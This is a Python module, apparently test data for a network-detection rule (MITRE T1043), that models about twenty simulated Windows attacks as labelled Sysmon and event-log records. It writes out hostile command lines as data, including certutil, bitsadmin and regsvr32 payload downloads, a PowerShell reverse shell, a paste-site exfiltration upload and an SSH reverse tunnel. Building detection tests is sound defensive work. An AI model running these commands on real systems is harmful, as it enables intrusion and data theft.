"""Attacks as data: the program, what it does and when, and which of its records T1043's rule should report.

The first four are the tests of the T1043 page. Two of them the rule cannot see, which is the truth about it: nslookup
is
on none of its lists, and a BITS job's connection is made by svchost.exe, which it leaves out.
"""

from __future__ import annotations

from functools import cache

from msgspec import Struct, field
from msgspec.structs import replace

from .forms import Fields, make, network
from .model import Form, Label, Program
from .office import PROGRAMS, Connection

_SYS32 = "C:\\Windows\\System32"
_TEMP = "C:\\Users\\«user»\\AppData\\Local\\Temp"
_POWERSHELL = f"{_SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe"
_DOTNET = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319"

PAGE_HOST = "93.184.216.34"  # the address that the tests of the T1043 page connect to
PAGE_RESOLVER = "8.8.8.8"
MAIL, FILES, CONTROLLER = "10.20.0.25", "10.20.0.19", "10.20.0.10"


class Act(Struct, frozen=True):
    """One kind of record of an attack: ``times`` records, the first ``at`` and then every ``every`` milliseconds.

    ``by``: the key of another program that is running on the host and does it; empty: the attack's own.
    """

    kind: str
    at: int
    values: Fields = field(default_factory=dict)
    fires: bool = False
    times: int = 1
    every: int = 0
    by: str = ""


class Attack(Struct, frozen=True):
    """A program that an attacker starts, and what follows from it."""

    name: str
    technique: str
    program: Program
    acts: tuple[Act, ...]

    @property
    def size(self) -> int:
        """How many records it gives."""
        return sum(act.times for act in self.acts)


class Scene(Struct, frozen=True):
    """An attack made ready: for each record its form, its time after the beginning, its label, and who does it."""

    attack: Attack
    records: tuple[tuple[int, Form, Label, str], ...]


def _program(image: str, command: str, parent: str = "explorer", account: str = "user", what: str = "-") -> Program:
    return Program(image.rpartition("\\")[2].lower(), image, command, parent, account, what)


def _connect(
    ip: str,
    port: int,
    at: int,
    fires: bool = False,
    name: str = "-",
    protocol: str = "tcp",
    times: int = 1,
    every: int = 0,
    by: str = "",
) -> Act:
    row = Connection("", "", port, 1, protocol)
    texts = {key: text.replace("«peer»", ip).replace("«peername»", name) for key, text in network(row, "").items()}
    return Act("Sysmon:3", at, texts, fires, times, every, by)


def _lookup(name: str, answer: str, at: int) -> Act:
    return Act("Sysmon:22", at, {"QueryName": name, "QueryResults": f"::ffff:{answer};"})


def _file(path: str, at: int, by: str = "") -> Act:
    return Act("Sysmon:11", at, {"TargetFilename": path}, by=by)


def _attack(name: str, technique: str, program: Program, *acts: Act, start: int = 0, end: int = 4000) -> Attack:
    life = (Act("Sysmon:1", start), Act("Security-Auditing:4688", start + 4), *acts, Act("Sysmon:5", end))
    return Attack(name, technique, program, life)


_LABELS_NAME = "q5hx0mvd8u2kfw7tz1ry4cb9snagjpe6lio3xkqm.d4tu8w2zr7vf1yc0hs5bgn9japle3xqk.t1043.example.com"
_BITS_JOB = {"jobTitle": "T1043Job", "jobId": "{«guid»}", "name": "T1043Job", "transferId": "{«guid»}",
"Id": "{«guid»}",
             "url": "https://example.com/payload.bin"}  # fmt: skip

ATTACKS: tuple[Attack, ...] = (
    _attack(
        "PowerShell C2 over port 443", "T1071.001",
        _program(_POWERSHELL, f'"{_POWERSHELL}" -NoProfile -Command "$c = New-Object System.Net.Sockets.TcpClient; '
                 f'$c.Connect(\'{PAGE_HOST}\', 443); Start-Sleep 2; $c.Close()"', "cmd", what="Windows PowerShell"),
        _connect(PAGE_HOST, 443, 820, fires=True),
        Act("PowerShell:4104", 640, {"ScriptBlockText": "$c = New-Object System.Net.Sockets.TcpClient; "
            f"$c.Connect('{PAGE_HOST}', 443)", "ScriptBlockId": "«guid»"}),
    ),
    _attack(
        "certutil download over port 80", "T1105",
        _program(f"{_SYS32}\\certutil.exe", f"certutil.exe -urlcache -split -f http://{PAGE_HOST}/index.html "
                 f"{_TEMP}\\t1043.html", "cmd", what="CertUtil.exe"),
        _connect(PAGE_HOST, 80, 310, fires=True),
        _file(f"{_TEMP}\\t1043.html", 690),
        end=900,
    ),
    _attack(
        "DNS tunnel with long labels, nslookup", "T1071.004",
        _program(f"{_SYS32}\\nslookup.exe", f"nslookup.exe -type=TXT {_LABELS_NAME} {PAGE_RESOLVER}", "powershell",
                 what="nslookup"),
        _connect(PAGE_RESOLVER, 53, 200, protocol="udp", times=10, every=350, name="dns.google"),
        Act("DNS-Client:3020", 210, {"QueryName": _LABELS_NAME, "QueryType": "16", "QueryStatus": "9003",
        "QueryResults": ""},
            times=10, every=350),
    ),
    _attack(
        "bitsadmin download over port 443", "T1197",
        _program(f"{_SYS32}\\bitsadmin.exe", "bitsadmin.exe /transfer T1043Job /download /priority normal "
                 f"https://example.com/payload.bin {_TEMP}\\payload.bin", "cmd", what="BITS administration utility"),
        Act("Bits-Client:3", 240, _BITS_JOB),
        Act("Bits-Client:59", 420, _BITS_JOB),
        _connect(PAGE_HOST, 443, 460, name="example.com", by="svc_bits"),
        Act("Bits-Client:60", 2300, _BITS_JOB),
        _file(f"{_TEMP}\\payload.bin", 2340, by="svc_bits"),
    ),
    _attack(
        "mshta runs a remote HTA", "T1218.005",
        _program(f"{_SYS32}\\mshta.exe", "mshta.exe https://portal.example.net/invoice.hta", "outlook",
                 what="Microsoft (R) HTML Application host"),
        _lookup("portal.example.net", "203.0.113.66", 180),
        _connect("203.0.113.66", 443, 240, fires=True, name="portal.example.net"),
        _file("C:\\Users\\«user»\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\K2\\invoice[1].hta", 410),
    ),
    _attack(
        "regsvr32 runs a remote scriptlet", "T1218.010",
        _program(f"{_SYS32}\\regsvr32.exe", "regsvr32.exe /s /n /u /i:http://198.51.100.23/launch.sct scrobj.dll",
        "cmd",
                 what="Microsoft(C) Register Server"),
        _connect("198.51.100.23", 80, 150, fires=True),
        _connect("198.51.100.23", 80, 1900, fires=True),
    ),
    _attack(
        "rundll32 beacon over port 443", "T1218.011",
        _program(f"{_SYS32}\\rundll32.exe", f"rundll32.exe {_TEMP}\\upd.dll,Start", "explorer",
                 what="Windows host process (Rundll32)"),
        _lookup("cdn.updates.example.org", "203.0.113.90", 300),
        _connect("203.0.113.90", 443, 380, fires=True, name="cdn.updates.example.org", times=4, every=5000),
        end=21000,
    ),
    _attack(
        "WMIC runs a remote stylesheet", "T1220",
        _program(f"{_SYS32}\\wbem\\WMIC.exe", 'WMIC.exe process get brief /format:"https://198.51.100.77/list.xsl"',
        "cmd",
                 what="WMI Commandline Utility"),
        _connect("198.51.100.77", 443, 260, fires=True),
        _file("C:\\Users\\«user»\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\9F\\list[1].xsl", 480),
        end=1500,
    ),
    _attack(
        "script sends files by mail", "T1048.003",
        _program(f"{_SYS32}\\wscript.exe", f'wscript.exe //B "{_TEMP}\\send.vbs"', "explorer",
                 what="Microsoft ® Windows Based Script Host"),
        _connect(MAIL, 25, 700, fires=True, name="mail.corp.example", times=3, every=900),
    ),
    _attack(
        "beacon inside notepad", "T1055",
        _program(f"{_SYS32}\\notepad.exe", "notepad.exe", "powershell", what="Notepad"),
        _connect("203.0.113.120", 443, 900, fires=True, times=2, every=4000),
        end=9000,
    ),
    _attack(
        "calculator opens SSH to a server", "T1021.004",
        _program(f"{_SYS32}\\calc.exe", "calc.exe", "explorer", what="Windows Calculator"),
        _connect(FILES, 22, 1100, fires=True, name="srv-010.corp.example"),
    ),
    _attack(
        "MSBuild runs an inline task", "T1127.001",
        _program(f"{_DOTNET}\\MSBuild.exe", f"{_DOTNET}\\MSBuild.exe {_TEMP}\\build.xml", "cmd", what="MSBuild.exe"),
        _connect("192.0.2.200", 443, 1600, fires=True, name="feed.example.com"),
    ),
    _attack(
        "PowerShell moves by DCOM", "T1021.003",
        _program(_POWERSHELL, f"{_POWERSHELL} -c \"[activator]::CreateInstance([type]::GetTypeFromProgID("
                 "'MMC20.Application', '10.20.0.19'))\"", "cmd", "admin", "Windows PowerShell"),
        _connect(FILES, 135, 500, fires=True, name="srv-010.corp.example"),
        _connect(FILES, 49671, 560, name="srv-010.corp.example"),
    ),
    _attack(
        "PowerShell 7 posts to a paste site", "T1567",
        _program("C:\\Program Files\\PowerShell\\7\\pwsh.exe", '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -c '
                 '"irm https://paste.example.net -Method Post -InFile .\\out.zip"', "explorer", what="pwsh"),
        _lookup("paste.example.net", "198.51.100.140", 410),
        _connect("198.51.100.140", 443, 470, fires=True, name="paste.example.net"),
    ),
    _attack(
        "help file fetches a script", "T1218.001",
        _program("C:\\Windows\\hh.exe", "hh.exe http://192.0.2.44/guide.chm", "explorer",
                 what="Microsoft ® HTML Help Executable"),
        _connect("192.0.2.44", 80, 40, fires=True),
        start=650,  # Sysmon may stamp the connection before the process that makes it
    ),
    _attack(
        "InstallUtil runs a payload", "T1218.004",
        _program(f"{_DOTNET}\\InstallUtil.exe", f"{_DOTNET}\\InstallUtil.exe /logfile= /U {_TEMP}\\svc.exe", "cmd",
                 what=".NET Framework installation utility"),
        _connect("203.0.113.31", 443, 800, fires=True),
    ),
    _attack(
        "Paint opens remote desktop to the controller", "T1021.001",
        _program(f"{_SYS32}\\mspaint.exe", "mspaint.exe", "explorer", what="Paint"),
        _connect(CONTROLLER, 3389, 950, fires=True, name="dc-001.corp.example"),
    ),
    _attack(
        "PowerShell reverse shell over port 53", "T1095",
        _program(_POWERSHELL, f'{_POWERSHELL} -nop -w hidden -c "$s = New-Object Net.Sockets.TcpClient('
                 '\'203.0.113.77\', 53); $w = $s.GetStream()"', "cmd", "admin", "Windows PowerShell"),
        _connect("203.0.113.77", 53, 600, fires=True),
    ),
    _attack(
        "plink tunnel over port 22", "T1572",
        _program(f"{_TEMP}\\plink.exe", "plink.exe -R 4455:127.0.0.1:3389 root@203.0.113.8", "cmd",
                 what="Command-line SSH client"),
        _connect("203.0.113.8", 22, 300),
    ),
    _attack(
        "rundll32 beacon on an unusual port", "T1571",
        _program(f"{_SYS32}\\rundll32.exe", f"rundll32.exe {_TEMP}\\gfx.dll,#1", "explorer",
                 what="Windows host process (Rundll32)"),
        _connect("192.0.2.61", 8444, 400, times=3, every=3000),
        end=9000,
    ),
    _attack(
        "renamed certutil", "T1036.003",
        _program("C:\\Users\\Public\\winupd.exe",
                 "winupd.exe -urlcache -f http://192.0.2.99/a.bin C:\\Users\\Public\\a.bin",
                 "cmd", what="CertUtil.exe"),
        _connect("192.0.2.99", 80, 260),
        _file("C:\\Users\\Public\\a.bin", 530),
    ),
    _attack(
        "remote service runs a command", "T1569.002",
        _program(f"{_SYS32}\\cmd.exe", "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__out 2>&1", "services",
        "system",
                 "Windows Command Processor"),
        Act("Security-Auditing:4624", 20, {"LogonType": "3"}, by="services"),
        Act("Service Control Manager:7045", 40, {"ServiceName": "BTOBTO",
            "ImagePath": "%COMSPEC% /Q /c whoami", "StartType": "demand start"}, by="services"),
        start=120,
    ),
)  # fmt: skip


@cache
def scene(number: int) -> Scene:
    """The scene of ``ATTACKS[number]``, its records in the order of their times."""
    attack = ATTACKS[number]
    own = replace(attack.program, key="own")
    programs = PROGRAMS | {"own": own}
    records = [
        (act.at + turn * act.every, form, Label(attack.name, attack.technique, act.fires), act.by)
        for act in attack.acts
        for form in (make(act.kind, programs[act.by or "own"], programs, act.values),)
        for turn in range(act.times)
    ]
    return Scene(attack, tuple(sorted(records, key=lambda record: record[0])))
